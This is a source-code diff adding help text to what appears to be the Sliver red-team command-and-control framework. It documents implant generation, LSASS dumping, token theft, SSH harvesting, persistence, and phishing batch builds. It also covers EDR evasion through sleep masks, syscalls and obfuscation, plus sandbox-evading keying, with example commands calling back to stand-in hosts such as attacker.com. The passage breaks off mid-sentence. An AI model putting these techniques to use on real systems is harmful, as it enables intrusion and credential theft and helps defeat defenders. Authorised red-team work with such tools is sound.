@@ -39,19 +39,27 @@ var (
 
 	// NOTE: For sub-commands use a "." hierarchy, for example root.sub for "sub" help
 	cmdHelp = map[string]string{
-		consts.JobsStr:          jobsHelp,
+		consts.JobsStr: jobsHelp,
+		consts.JobsStr + sep + consts.SettingsStr: jobsSettingsHelp,
+		consts.IcmpStr:          icmpHelp,
+		consts.UdpStr:           udpHelp,
 		consts.SessionsStr:      sessionsHelp,
+		consts.InteractiveStr:   interactiveHelp,
 		consts.BackgroundStr:    backgroundHelp,
 		consts.InfoStr:          infoHelp,
 		consts.UseStr:           useHelp,
 		consts.GenerateStr:      generateHelp,
 		consts.StagerStr:        generateStagerHelp,
 		consts.StageListenerStr: stageListenerHelp,
+		consts.ShellUpgradeStr:  shellUpgradeHelp,
+		consts.WarmupStr:        warmupHelp,
 
 		consts.MsfStr:              msfHelp,
 		consts.MsfInjectStr:        msfInjectHelp,
 		consts.PsStr:               psHelp,
 		consts.PingStr:             pingHelp,
+		consts.PresenceStr:         presenceHelp,
+		consts.SurveyStr:           surveyHelp,
 		consts.KillStr:             killHelp,
 		consts.LsStr:               lsHelp,
 		consts.CdStr:               cdHelp,
@@ -62,6 +70,7 @@ var (
 		consts.MkdirStr:            mkdirHelp,
 		consts.RmStr:               rmHelp,
 		consts.ProcdumpStr:         procdumpHelp,
+		consts.LsassDumpStr:        lsassDumpHelp,
 		consts.ElevateStr:          elevateHelp,
 		consts.RunAsStr:            runAsHelp,
 		consts.ImpersonateStr:      impersonateHelp,
@@ -70,27 +79,76 @@ var (
 		consts.ExecuteShellcodeStr: executeShellcodeHelp,
 		consts.MigrateStr:          migrateHelp,
 		consts.SideloadStr:         sideloadHelp,
+		consts.InlineExecuteStr:    inlineExecuteHelp,
 		consts.TerminateStr:        terminateHelp,
 		consts.AliasesStr:          loadAliasHelp,
 		consts.PsExecStr:           psExecHelp,
 		consts.BackdoorStr:         backdoorHelp,
 		consts.SpawnDllStr:         spawnDllHelp,
 
-		consts.WebsitesStr:                  websitesHelp,
-		consts.ScreenshotStr:                screenshotHelp,
-		consts.MakeTokenStr:                 makeTokenHelp,
-		consts.EnvStr:                       getEnvHelp,
-		consts.EnvStr + sep + consts.SetStr: setEnvHelp,
-		consts.RegistryWriteStr:             regWriteHelp,
-		consts.RegistryReadStr:              regReadHelp,
-		consts.RegistryCreateKeyStr:         regCreateKeyHelp,
-		consts.RegistryDeleteKeyStr:         regDeleteKeyHelp,
-		consts.PivotsStr:                    pivotsHelp,
-		consts.WgPortFwdStr:                 wgPortFwdHelp,
-		consts.WgSocksStr:                   wgSocksHelp,
-		consts.SSHStr:                       sshHelp,
-		consts.DLLHijackStr:                 dllHijackHelp,
-		consts.GetPrivsStr:                  getPrivsHelp,
+		consts.WebsitesStr:                                   websitesHelp,
+		consts.SearchStr:                                     searchHelp,
+		consts.ScreenshotStr:                                 screenshotHelp,
+		consts.ClipboardStr:                                  clipboardHelp,
+		consts.ClipboardStr + sep + consts.MonitorStr:        clipboardMonitorHelp,
+		consts.MacOSStr:                                      macosHelp,
+		consts.MacOSStr + sep + consts.TCCStr:                macosTCCHelp,
+		consts.MacOSStr + sep + consts.KeychainStr:           macosKeychainHelp,
+		consts.MacOSStr + sep + consts.LaunchdStr:            macosLaunchdHelp,
+		consts.MacOSStr + sep + consts.ProfilesStr:           macosProfilesHelp,
+		consts.AdcsStr:                                       adcsHelp,
+		consts.AdcsStr + sep + consts.EnumStr:                adcsEnumHelp,
+		consts.AdcsStr + sep + consts.RequestStr:             adcsRequestHelp,
+		consts.MakeTokenStr:                                  makeTokenHelp,
+		consts.StealTokenStr:                                 stealTokenHelp,
+		consts.TokensStr:                                     tokensHelp,
+		consts.EnvStr:                                        getEnvHelp,
+		consts.EnvStr + sep + consts.SetStr:                  setEnvHelp,
+		consts.RegistryWriteStr:                              regWriteHelp,
+		consts.RegistryReadStr:                               regReadHelp,
+		consts.RegistryCreateKeyStr:                          regCreateKeyHelp,
+		consts.RegistryDeleteKeyStr:                          regDeleteKeyHelp,
+		consts.RegistryStr + sep + consts.RegistryListSubStr: regListSubKeysHelp,
+		consts.RegistryStr + sep + consts.RegistryExportStr:  regExportHelp,
+		consts.RegistryStr + sep + consts.RegistrySearchStr:  regSearchHelp,
+		consts.PivotsStr:                                     pivotsHelp,
+		consts.PivotsStr + sep + consts.NamedPipeStr:         pivotsNamedPipeHelp,
+		consts.PivotsStr + sep + consts.AllowStr:             pivotsAllowHelp,
+		consts.PivotsStr + sep + consts.GraphStr:             pivotsGraphHelp,
+		consts.WgPortFwdStr:                                  wgPortFwdHelp,
+		consts.Socks5Str:                                     socks5Help,
+		consts.RportfwdStr:                                   rportfwdHelp,
+		consts.NTLMListenerStr:                               ntlmListenerHelp,
+		consts.ProxyStr:                                      proxyHelp,
+		consts.ReconfigStr:                                   reconfigHelp,
+		consts.EngagementStr:                                 engagementHelp,
+		consts.ArtifactsStr:                                  artifactsHelp,
+		consts.PlaybooksStr:                                  playbooksHelp,
+		consts.PlaybooksStr + sep + consts.RunStr:            playbooksRunHelp,
+		consts.MultiplayerModeStr:                            multiplayerHelp,
+		consts.BOFStr + sep + consts.RunStr:                  bofRunHelp,
+		consts.ProxyStr + sep + consts.SetStr:                proxySetHelp,
+		consts.RedirectStr:                                   redirectHelp,
+		consts.WgSocksStr:                                    wgSocksHelp,
+		consts.WgRotateKeysStr:                               wgRotateKeysHelp,
+		consts.SSHStr:                                        sshHelp,
+		consts.SSHHarvestStr:                                 sshHarvestHelp,
+		consts.DLLHijackStr:                                  dllHijackHelp,
+		consts.GetPrivsStr:                                   getPrivsHelp,
+		consts.LogonsStr:                                     logonsHelp,
+		consts.LocalGroupsStr:                                localGroupsHelp,
+		consts.HostsStr + sep + consts.ServicesStr:           hostsServicesHelp,
+		consts.HostsStr + sep + consts.SurveyStr:             hostsSurveyHelp,
+		consts.HostsStr + sep + consts.TagStr:                hostsTagHelp,
+		consts.ServiceHijacksStr:                             serviceHijacksHelp,
+		consts.ServicesStr:                                   servicesHelp,
+		consts.ServicesStr + sep + consts.StartStr:           servicesStartHelp,
+		consts.ServicesStr + sep + consts.StopStr:            servicesStopHelp,
+		consts.ServicesStr + sep + consts.ServicesCreateStr:  servicesCreateHelp,
+		consts.ServicesStr + sep + consts.ServicesDeleteStr:  servicesDeleteHelp,
+		consts.ServicesStr + sep + consts.ServicesConfigStr:  servicesConfigHelp,
+		consts.PersistenceStr:                                persistenceHelp,
+		consts.PersistenceStr + sep + consts.RmStr:           persistenceRmHelp,
 
 		// Loot
 		consts.LootStr: lootHelp,
@@ -106,6 +164,26 @@ var (
 
 		consts.Cursed + sep + consts.CursedChrome: cursedChromeHelp,
 
+		consts.SettingsStr + sep + "mask-secrets": maskSecretsHelp,
+
+		// C2 Profiles
+		consts.C2ProfilesStr:                          c2ProfilesHelp,
+		consts.C2ProfilesStr + sep + consts.ImportStr: c2ProfilesImportHelp,
+
+		// Servers
+		consts.ServersStr: serversHelp,
+		consts.ServersStr + sep + consts.ConnectStr:    serversConnectHelp,
+		consts.ServersStr + sep + consts.UseStr:        serversUseHelp,
+		consts.ServersStr + sep + consts.DisconnectStr: serversDisconnectHelp,
+
+		// Tasks
+		consts.TasksStr:                           tasksHelp,
+		consts.TasksStr + sep + consts.CancelStr:  tasksCancelHelp,
+		consts.TasksStr + sep + consts.ReorderStr: tasksReorderHelp,
+
+		// OPSEC
+		consts.OpsecStr: opsecHelp,
+
 		// Builders
 		consts.BuildersStr: buildersHelp,
 	}
@@ -113,9 +191,45 @@ var (
 	jobsHelp = `[[.Bold]]Command:[[.Normal]] jobs <options>
 	[[.Bold]]About:[[.Normal]] Manage jobs/listeners.`
 
+	jobsSettingsHelp = `[[.Bold]]Command:[[.Normal]] jobs settings <job id> <options>
+[[.Bold]]About:[[.Normal]] Show or change a listener's timing, padding, gating, and profile settings while it's running.
+
+Changes apply to the next request the listener handles, implants don't need to reconnect and the job isn't
+restarted. Persistent listeners save their settings to the server's database, and the saved settings take
+precedence over the job config when the server restarts the listener.
+
+HTTP(S) listeners support --long-poll-timeout, --long-poll-jitter, and --c2profile. Changing the c2 profile
+changes the file extensions the listener maps to each handler, so implants built with the old profile will
+no longer be able to connect. DNS listeners support --max-nop-padding and --ttl. Both support enforcing
+or disabling otp authentication.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	jobs settings 1
+	jobs settings 1 --long-poll-timeout 30s --long-poll-jitter 10s
+	jobs settings 2 --ttl 300 --max-nop-padding 512`
+
 	sessionsHelp = `[[.Bold]]Command:[[.Normal]] sessions <options>
 [[.Bold]]About:[[.Normal]] List Sliver sessions, and optionally interact or kill a session.`
 
+	interactiveHelp = `[[.Bold]]Command:[[.Normal]] interactive <options>
+[[.Bold]]About:[[.Normal]] Task a beacon to open an interactive session (Beacon only).
+
+By default the session connects back over the beacon's active C2 and stays open until it's closed. With
+--duration the session closes itself after the given time, and the beacon keeps checking in as usual.
+
+With --interval the beacon doesn't open a session, it checks in at the given interval (without jitter)
+for the --duration and then reverts to its own interval and jitter. This keeps the beacon's transport
+and avoids the new connection a session makes.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	interactive
+	interactive --duration 10m
+	interactive --interval 1s --duration 10m
+	interactive --mtls 10.0.0.1:8888
+`
+
 	backgroundHelp = `[[.Bold]]Command:[[.Normal]] background
 [[.Bold]]About:[[.Normal]] Background the active Sliver.`
 
@@ -135,14 +249,79 @@ The command requires at least one use of --mtls, --wg, --http, or --dns, --named
 The follow command is used to generate a sliver Windows executable (PE) file, that will connect back to the server using mutual-TLS:
 	generate --mtls foo.example.com 
 
+Mutual-TLS connections send tcp keepalive probes every 'keepalive' (default 30s, a negative value disables them) and ping the server every 'ping-interval' (default 2m). Once the server has replied to a ping, a session that doesn't hear from the server for 'ping-interval' plus 'ping-timeout' (default 1m, 0 disables it) is considered dead and the implant reconnects:
+	generate --mtls foo.example.com?keepalive=15s&ping-interval=30s&ping-timeout=30s
+
 The follow command is used to generate a sliver Windows executable (PE) file, that will connect back to the server using Wireguard on UDP port 9090,
 then connect to TCP port 1337 on the server's virtual tunnel interface to retrieve new wireguard keys, re-establish the wireguard connection using the new keys, 
 then connect to TCP port 8888 on the server's virtual tunnel interface to establish c2 comms.
 	generate --wg 3.3.3.3:9090 --key-exchange 1337 --tcp-comms 8888
 
+Other endpoints of the same Wireguard listener (e.g. its other IPs or a redirector) can be given with the 'endpoint' option, more than once. The implant connects through the endpoint with the lowest latency, and roams to the next endpoint without dropping the session when the current one stops completing handshakes. Use 'wg-rotate-keys' to switch a session to new keys:
+	generate --wg 3.3.3.3:9090?endpoint=4.4.4.4:9090&endpoint=wg.example.com:9090
+
+HTTP(S) C2 can be fronted through a CDN with the 'front-domain' option, the implant connects to (and sends the TLS SNI for) the front domain while the Host header targets the real C2 domain. Start the listener with a matching --front-domain so it uses the client address forwarded by the CDN:
+	generate --http c2.example.com?front-domain=cdn.example.net
+	https --domain c2.example.com --front-domain cdn.example.net
+
+HTTPS C2 can use HTTP/2 with the 'http2' option, polls and messages are multiplexed over a single long lived connection like a browser's. Start the listener with --http2, the implant falls back to HTTP/1.1 if the listener doesn't negotiate HTTP/2 (only the 'go' driver supports HTTP/2):
+	generate --http example.com?http2=true
+	https --domain example.com --http2
+
+ICMP C2 tunnels the session through echo requests, it only works when the implant runs as root/administrator. Use 'poll-interval' (default 1s) to change how often the implant pings the server when it's idle, and start the listener with the 'icmp' command:
+	generate --icmp 1.2.3.4?poll-interval=5s
+
+UDP C2 tunnels the session through UDP datagrams, sessions are identified by an id instead of the implant's address so they survive NAT rebinding and network changes (e.g. Wi-Fi to wired) without a new key exchange. Use 'migrate=false' to stay on the first socket, the listener is started with the 'udp' command:
+	generate --udp 1.2.3.4:443?poll-interval=5s
+
+HTTPS C2 uses the system's proxy settings (including WPAD/PAC on Windows), or the proxy given with the 'proxy' option. On Windows the 'go' driver authenticates to the proxy as the current user with Negotiate (Kerberos) or NTLM when the proxy asks for it, use 'proxy-username'/'proxy-password' for basic auth instead, or 'disable-proxy-auth' to turn it off:
+	generate --http example.com?proxy=http://proxy.corp.local:8080
+
 You can also stack the C2 configuration with multiple protocols:
 	generate --os linux --mtls example.com,domain.com --http bar1.evil.com,bar2.attacker.com --dns baz.bishopfox.com
 
+By default DNS C2 uses A and TXT records, the 'record-type' option restricts DNS C2 to a single record type ('aaaa', 'cname', or 'txt'):
+	generate --dns baz.bishopfox.com?record-type=aaaa
+
+The 'resume-path' option saves an encrypted DNS session token to a file on the target, so a restarted implant can resume its DNS session without a new key exchange:
+	generate --dns baz.bishopfox.com?resume-path=/tmp/.cache
+
+The 'internal-parent' option adds a second parent domain served by an internal DNS server, the implant uses it while the internal DNS server is reachable and falls back to the external parent when it is not. Both parent domains must be configured on the DNS listener:
+	generate --dns baz.bishopfox.com?internal-parent=c2.corp.example.com
+
+TXT responses use EDNS0 to carry more than 512 bytes when every resolver passes the larger responses through, the 'edns0-size' option sets the advertised payload size (default 1232, 0 disables EDNS0):
+	generate --dns baz.bishopfox.com?edns0-size=4096
+
+Resolvers and middleboxes often drop queries or truncate answers well below what the protocol allows, so the implant calibrates each resolver when it's fingerprinted: it finds the longest query and the largest TXT answer that make it through intact, and sizes message chunks for the most limited resolver in use. A truncated answer shrinks the resolver's calibrated size, and resolvers are recalibrated every 'health-check-interval' so the sizes can grow back. The 'calibrate' option set to 'false' skips calibration and uses the largest sizes the record type allows:
+	generate --dns baz.bishopfox.com?calibrate=false
+
+The 'max-queries-per-minute' option limits the rate of queries across all resolvers, queries are spaced out with some jitter instead of being sent in bursts (default 0, no limit):
+	generate --dns baz.bishopfox.com?max-queries-per-minute=600
+
+Additional parent domains served by the same listener can be given with the 'parents' option, each with an optional weight after a ':'. By default the first parent is used until more than 'parent-error-rate' (default 0.5) of its recent queries fail (e.g. NXDOMAIN or timeouts), then the implant fails over to the next parent. The 'parent-rotation' option spreads queries over the parents, 'session' picks a parent per session and 'message' picks one per message:
+	generate --dns baz.bishopfox.com?parents=qux.bishopfox.com:2,quux.bishopfox.com&parent-rotation=message
+
+Large messages from the server are read in many chunks, a chunk whose response is lost or doesn't match the query is requested again (usually via another resolver) up to 'chunk-retry-count' times (default 3) before the whole message is abandoned:
+	generate --dns baz.bishopfox.com?chunk-retry-count=5
+
+TXT responses are base64 encoded unless the DNS listener allows a denser encoding for the parent domain (e.g. 'dns --domains baz.bishopfox.com --txt-encoding raw'), the implant agrees on the encoding and chunk size with the listener when the session is initialized, then probes each resolver and uses the densest encoding that every resolver passes through intact. The 'txt-encoding' option sets the densest encoding the implant tries ('raw', 'base85', or 'base64' to never probe, default 'raw'):
+	generate --dns baz.bishopfox.com?txt-encoding=base85
+
+Polls and probes are padded with a random number of random bytes and the encoded subdata is split into labels of random lengths, so repeated messages don't produce identical queries. The 'randomize-labels' option set to 'false' always splits the subdata into 63 character labels:
+	generate --dns baz.bishopfox.com?randomize-labels=false
+
+Otherwise the length of each query leaks the size of the message it's part of. The 'query-padding' option pads every query of a session to one of a few fixed lengths, 'true' uses 4 lengths or give the number of lengths to use. Padded queries carry a little less data, so padding is off by default:
+	generate --dns baz.bishopfox.com?query-padding=true
+
+In diagnostic mode ('diagnostics=true') the implant also sends TXT queries through every resolver while fingerprinting, and reports how many answers each resolver dropped or rewrote (i.e. the checksum doesn't match the query) when it registers. Resolvers that rewrite answers are usually split-horizon or filtering resolvers, the report is shown by the 'info' command:
+	generate --dns baz.bishopfox.com?diagnostics=true
+
+DNS C2 works on IPv6-only networks, IPv6 resolvers are discovered from resolv.conf or the Windows adapter settings the same as IPv4 resolvers. The 'resolvers' option takes a comma separated list of resolvers to use instead, IPv6 resolvers can be wrapped in brackets:
+	generate --dns baz.bishopfox.com?resolvers=[2001:4860:4860::8888],8.8.8.8
+
+Resolvers can be restricted when the implant is generated, the --dns-allow-resolvers and --dns-deny-resolvers flags take a comma separated list of IPs and/or CIDRs. They apply to discovered and 'resolvers' option resolvers alike, if no resolver is left the DNS C2 fails to connect instead of using a denied resolver:
+	generate --dns baz.bishopfox.com --dns-allow-resolvers 10.0.0.0/24 --dns-deny-resolvers 10.0.0.53
+
 
 [[.Bold]][[.Underline]]++ Formats ++[[.Normal]]
 Supported output formats are Windows PE, Windows DLL, Windows Shellcode, Mach-O, and ELF. The output format is controlled
@@ -155,6 +334,16 @@ To output a 64bit Windows PE file (defaults to WinPE/64bit), either of the follo
 A Windows DLL can be generated with the following command:
 	generate --format shared --mtls foo.example.com
 
+A DLL can forward every export of a legitimate DLL with --proxy, so it can be sideloaded in its place without breaking
+the program that loads it. The implant starts from DllMain and the exports are forwarded to --proxy-target, the
+proxied DLL in System32 by default (e.g. 'C:\Windows\System32\version'), or the renamed original next to it:
+	generate --format dll --proxy ./version.dll --mtls foo.example.com
+	generate --format dll --proxy ./libcurl.dll --proxy-target libcurl_orig --mtls foo.example.com
+
+A Windows service answers the service control manager and stops when the service is stopped, it runs like an
+executable when it's not started as a service:
+	generate --format service --mtls foo.example.com
+
 To output a MacOS Mach-O executable file, the following command would be used
 	generate --os mac --mtls foo.example.com 
 
@@ -162,6 +351,25 @@ To output a Linux ELF executable file, the following command would be used:
 	generate --os linux --mtls foo.example.com 
 
 
+[[.Bold]][[.Underline]]++ Batch Generation ++[[.Normal]]
+The --batch flag generates one implant per target listed in a yaml manifest (e.g. one per phishing recipient or subsidiary)
+using the rest of the flags as the base configuration. Every build has its own keys, and a path component is appended to
+its http(s) c2 urls so callbacks can be told apart in web logs as well as by implant name. Names and paths are random unless
+they're set in the manifest:
+
+	name: q3-phish
+	targets:
+	  - target: alice@example.com
+	  - target: bob@example.com
+	    name: invoice-viewer
+	    path: static/bob
+
+	generate --http example.com --batch q3-phish.yaml --save /tmp/q3-phish/
+
+The mapping of targets to implant names, files, and c2 urls is saved next to the builds as '<name>.builds.yaml', and the
+'implants' command shows the target of each build.
+
+
 [[.Bold]][[.Underline]]++ DNS Canaries ++[[.Normal]]
 DNS canaries are unique per-binary domains that are deliberately NOT obfuscated during the compilation process. 
 This is done so that these unique domains show up if someone runs 'strings' on the binary, if they then attempt 
@@ -177,6 +385,138 @@ canaries and their status using the "canaries" command:
 [[.Bold]][[.Underline]]++ Execution Limits ++[[.Normal]]
 Execution limits can be used to restrict the execution of a Sliver implant to machines with specific configurations.
 
+Use --working-hours to only connect during working hours in the target's local time, and --kill-date to have the
+implant remove itself after a date. Both can be changed at runtime (see 'help reconfig'):
+	generate --mtls foo.example.com --working-hours 'Mon-Fri 08:00-18:00' --kill-date 2023-12-31
+
+[[.Bold]][[.Underline]]++ Environment Keying ++[[.Normal]]
+Environment keyed implants only carry their C2s encrypted, the key is derived from values of the target's environment
+that aren't stored in the binary: --key-domain (the joined domain, the user's DNS domain or the hostname's suffix),
+--key-cidr (the network of an interface address, only the prefix length is stored) and --key-file (the name of a file,
+only its directory is stored). The implant tries every combination of the values it finds and exits if none of them
+decrypt the C2s, so it's inert in a sandbox or the wrong organization. --key-hostname is a regex the hostname must match,
+it's stored in the binary and only limits execution:
+	generate --mtls foo.example.com --key-domain corp.example.com --key-cidr 10.20.0.0/16 --key-file 'C:\ProgramData\Agent\agent.cfg'
+
+[[.Bold]][[.Underline]]++ Registration Retries ++[[.Normal]]
+Until an implant has registered with the server for the first time, failed connection attempts are retried using the
+registration retry policy instead of the fixed --reconnect interval. The --connect-backoff flag selects how the wait grows
+with each failed attempt ('constant', 'linear', or 'exponential' multiples of the reconnect interval), --connect-backoff-max
+caps the wait and --connect-jitter adds a random delay on top of it. The --connect-fallback flag sets the order in which
+protocols are tried during this phase, for example:
+	generate --mtls foo.example.com --http foo.example.com --connect-backoff exponential --connect-fallback mtls,https
+
+Use --connect-attempts and --connect-give-up to have the implant give up after a number of failed attempts or hours
+without registering, an implant that gives up deletes its executable from disk (executables only) and exits.
+
+[[.Bold]][[.Underline]]++ Failover ++[[.Normal]]
+The --failover flag sets a failover chain, C2s are always used in the chain's protocol order instead of the connection
+strategy. The implant stays on a C2 until it fails to connect --failover-threshold times in a row (default 3), and then
+moves on to the next C2 in the chain. While it's using a fallback C2 the implant drops its connection and retries the
+preferred C2 every --failover-retry seconds (default 30 minutes), going straight back to the fallback if it still fails.
+The C2 the implant is using is reported to the server each time it connects ('info' shows the active C2):
+	generate --mtls foo.example.com --http foo.example.com --dns 1.example.com --failover mtls,https,dns
+
+[[.Bold]][[.Underline]]++ Quiet Check-ins ++[[.Normal]]
+Beacons built with --quiet-checkin pad every check-in that has no results or presence report to the same fixed size,
+and the server answers a quiet check-in with a response of the same fixed size when there are no tasks. Idle beacons
+then send and receive identical amounts of data on every transport regardless of their interval and jitter:
+	generate beacon --mtls foo.example.com --quiet-checkin
+
+[[.Bold]][[.Underline]]++ Sleep Masks ++[[.Normal]]
+Windows beacons built with --sleep-mask encrypt their memory between check-ins, once the tasks of a check-in are done
+the rest of the interval is slept in a chain of thread pool timers that each restore a context calling one function
+(RC4 with a random key per sleep). The other threads of the implant are suspended so goroutines don't run, and resumed
+by the chain before the beacon wakes up:
+	'timer' - Encrypts the Go heap (including the goroutine stacks) while sleeping in the timer thread
+	'ekko'  - Also encrypts the image, it's made writable while sleeping and each section's protection is restored
+	          on wake up (executables only, shared libraries and shellcode fall back to 'timer')
+
+	generate beacon --mtls foo.example.com --sleep-mask ekko
+
+[[.Bold]]Important:[[.Normal]] Sleep masks are only supported on amd64, other architectures sleep unmasked. Tasks that
+are still running when the interval ends keep the beacon awake until the next check-in. The beacon also sleeps unmasked
+while something started by a task keeps running: sessions opened with 'interactive', pivot, ntlm and reverse port
+forward listeners, and tasks that outlived their timeout.
+
+[[.Bold]][[.Underline]]++ Syscalls ++[[.Normal]]
+Windows implants built with --syscalls allocate and protect memory, write to other processes, start threads and open
+processes by making the nt syscalls themselves, hooks placed on the kernel32 and ntdll apis by security products don't
+see these calls. The syscall numbers are resolved from the order of ntdll's stubs when the implant first needs them:
+	'direct'   - The syscall instruction is in the implant's own stub
+	'indirect' - The stub jumps to the syscall instruction in ntdll, so the syscall returns into ntdll
+
+	generate --mtls foo.example.com --syscalls indirect
+
+[[.Bold]]Important:[[.Normal]] Syscall backends are only supported on amd64, the kernel32 apis are used if the syscall
+numbers can't be resolved. Process injection, execute-assembly, spawndll, sideload and procdump use the backend.
+
+[[.Bold]][[.Underline]]++ Shellcode Loaders ++[[.Normal]]
+Shellcode is made with donut from an executable by default. With --shellcode-loader srdi the implant is built as a dll
+(this requires the mingw cross compilers) and converted with sRDI, which loads the dll and calls an export:
+	--srdi-function          - The export to call, StartW by default
+	--srdi-keep-header       - Don't erase the dll's pe header once it's loaded
+	--srdi-obfuscate-imports - Load the dll's imports in a random order, --srdi-import-delay seconds apart
+	--srdi-hash-key          - Rotation of the api and function hashes, changes the loader's bytes and hashes
+
+	generate --mtls foo.example.com --format shellcode --shellcode-loader srdi --srdi-hash-key 7 --srdi-obfuscate-imports
+
+--shellcode-prepend and --shellcode-append add your own shellcode before and after the implant's, with either loader.
+The prepended shellcode has to fall through to the implant, the appended shellcode only runs if the loader returns.
+
+[[.Bold]][[.Underline]]++ Symbol Obfuscation ++[[.Normal]]
+Implants are obfuscated with garble unless --skip-symbols (or --debug) is used, which renames packages and symbols and
+by default also encrypts string literals and strips panic messages and runtime position info ("tiny" mode):
+	--skip-literals - Don't encrypt literals, the build is faster and the binary smaller but more strings are left in it
+	--skip-tiny     - Keep panic messages and position info, helpful when an obfuscated implant crashes
+	--seed          - The base64 seed (at least 8 bytes) the obfuscated names are derived from
+
+A random seed is picked for every build and saved with it, it's printed once the build completes. Rebuild with the same
+seed and configuration to get the same obfuscated names:
+	generate --mtls foo.example.com --skip-literals --seed 7mH2k8X1Zq9b3VwTnO4yQw
+
+[[.Bold]][[.Underline]]++ Indicators ++[[.Normal]]
+Every build is scanned for tell-tale strings: the server's build paths, project identifiers (e.g. 'sliverpb'), import
+paths of libraries that are rarely seen outside of implants, and template actions that were not rendered. Build paths are
+overwritten with random characters (except in --debug builds), the rest is reported after the build, --skip-symbols
+builds ship many more of them since symbol obfuscation renames the packages and encrypts string literals. Use
+--indicator-threshold to fail the build if more indicators remain in the binary:
+	generate --mtls foo.example.com --indicator-threshold 10
+
+[[.Bold]][[.Underline]]++ Watchdog ++[[.Normal]]
+Executables built with --watchdog start a second copy of themselves when they're first run. The copy only watches the
+implant's process and restarts it --watchdog-delay seconds (default 30) after it exits, re-writing the executable to its
+original path first if it was deleted. The watchdog gives up if the implant is restarted 5 times within 10 minutes, and
+the 'kill' command stops the watchdog before the implant exits. The pair is started without a console window (Windows)
+or in a new session (Unix), the role of each process is passed in a randomly named environment variable that's removed
+as soon as it's read. The watchdog's process is recorded in the 'persistence' inventory when the implant registers:
+	generate --mtls foo.example.com --watchdog --watchdog-delay 120
+
+[[.Bold]]Important:[[.Normal]] The watchdog is a second long running process of the same executable, and restarts are new
+process creation events with the watchdog as their parent.
+
+[[.Bold]][[.Underline]]++ Startup Snapshot ++[[.Normal]]
+Implants built with --startup-snapshot gather a few cheap facts about the host when they register: the domain and the
+machine's role in it, the interfaces that are up, the system's proxy for the c2, the logged on users and the names of the
+running executables. New sessions and beacons are announced with a triage card of these, the security products are
+identified from the executables by the client, and the full snapshot is shown by 'info':
+	generate --http foo.example.com --startup-snapshot
+
+[[.Bold]]Important:[[.Normal]] Sessions take a new snapshot each time they reconnect, the process list and the proxy lookup
+(which may use WPAD on Windows) are the most expensive parts.
+
+[[.Bold]][[.Underline]]++ Debug Harness ++[[.Normal]]
+Executables built with --harness are debug sessions (no symbol obfuscation, no optimizations) that don't use a c2, the
+session is connected over an in-process loopback to a console on stdin that sends requests to the implant's handlers and
+prints the responses. Handlers and extensions can be run locally, and stepped through by attaching a debugger (e.g.
+'dlv attach <pid>', the pid is printed when the implant registers), without a server or listeners:
+	generate --harness --os linux --save /tmp/harness
+
+Requests are typed as the request message or command name followed by its fields in protobuf text format, or @ and a
+file. Bytes fields can be set to "@<path>" to send the contents of a file, 'help' lists the requests:
+	harness > ls Path: "/tmp"
+	harness > register-extension Name: "hello" OS: "linux" Init: "go" Data: "@/tmp/hello.so"
+
 [[.Bold]][[.Underline]]++ Profiles ++[[.Normal]]
 Due to the large number of options and C2s this can be a lot of typing. If you'd like to have a reusable a Sliver config
 see 'help profiles new'. All "generate" flags can be saved into a profile, you can view existing profiles with the "profiles"
@@ -210,6 +550,185 @@ stage-listener --url tcp://1.2.3.4:8080 --profile my-sliver-profile
 To create a profile, use the [[.Bold]]profiles new[[.Normal]] command. A common scenario is to create a profile that generates a shellcode, which can act as a stage 2:
 
 profiles new --format shellcode --mtls 1.2.3.4 --skip-symbols windows-shellcode
+
+[[.Bold]]Staging Protocol:[[.Normal]]
+Stagers can send a fingerprint of their host (os, arch, os version and AV products) and the listener serves the first
+of the --stages that matches it, the --profile stage is served when none match and to stagers that don't fingerprint.
+Each stage is only served to the platform its profile was built for, unless the mapping sets os or arch:
+
+stage-listener --url tcp://1.2.3.4:8080 --profile win64 --stages win7:version=6.1,edr-safe:av=crowdstrike+av=sentinelone
+
+TCP stagers send 'STG1', the size of the fingerprint (uint32 little endian) and the fingerprint, one key=value per line
+(os, arch, version, av as a comma separated list, chunk as the largest chunk the stager can receive). The listener
+answers with the size of the stage and the chunk size (uint32 little endian each) and sends the stage in chunks, the
+stager sends a byte after each chunk to request the next one. --chunk-size limits the chunk size for every stager.
+
+HTTP(S) stagers send the fingerprint in the query string (?os=windows&arch=amd64&av=defender) and request chunks with
+a Range header, the size of the stage is in the response's Content-Range.
+
+Stages are compressed (--compress) and then wrapped with AES (--aes-encrypt-key) or XOR (--xor-key).
+
+Shellcode artifacts (see 'artifacts convert') can be served instead of a profile, --artifact sets the default stage and
+'artifact/<name>' in --stages serves an artifact to windows stagers of the artifact's arch:
+
+stage-listener --url http://1.2.3.4:8080 --profile win64 --stages artifact/seatbelt:av=defender
+`
+	shellUpgradeHelp = `[[.Bold]]Command:[[.Normal]] shell-upgrade <options>
+[[.Bold]]About:[[.Normal]] Upgrade plain reverse or bind tcp shells (e.g. from custom shellcode or netcat) to implants.
+[[.Bold]]Examples:[[.Normal]] 
+
+The following command starts a listener on port 4444, shells that connect to it are probed to detect their
+platform, the matching profile's implant is written to disk through the shell and executed:
+
+shell-upgrade --lport 4444 --profile linux-amd64,windows-amd64
+
+To upgrade a bind shell listening on 10.0.0.5:4444 instead:
+
+shell-upgrade --connect 10.0.0.5:4444 --profile linux-amd64
+
+Profiles must use the executable format. Shells must be sh compatible or cmd.exe, Windows targets need certutil.
+`
+
+	icmpHelp = `[[.Bold]]Command:[[.Normal]] icmp <options>
+[[.Bold]]About:[[.Normal]] Start an ICMP listener, for implants that can only reach the server with ping.
+
+ICMP C2 tunnels the session through echo requests and echo replies. The server and the implant both need raw sockets,
+so the server must run as root and the implant only connects when it's running as root/administrator.
+
+The server's kernel also answers the implant's echo requests, implants ignore those replies but you can stop the
+kernel from sending them with 'sysctl -w net.ipv4.icmp_echo_ignore_all=1'.
+`
+
+	udpHelp = `[[.Bold]]Command:[[.Normal]] udp <options>
+[[.Bold]]About:[[.Normal]] Start a UDP listener.
+
+UDP C2 tunnels the session through datagrams, the implant polls the server and each reply carries data back. Like
+QUIC, the server knows a session by its connection id rather than the implant's address, so when the implant's address
+changes (NAT rebinding, switching from Wi-Fi to wired, a VPN coming up) the session follows it to the new address
+without a new key exchange. This is not QUIC (RFC 9000), it's the same framing as the ICMP C2 over plain UDP.
+`
+
+	serversHelp = `[[.Bold]]Command:[[.Normal]] servers
+[[.Bold]]About:[[.Normal]] List the team servers this client is connected to.
+
+A client can be connected to several team servers at once, commands are always sent to the active server and the
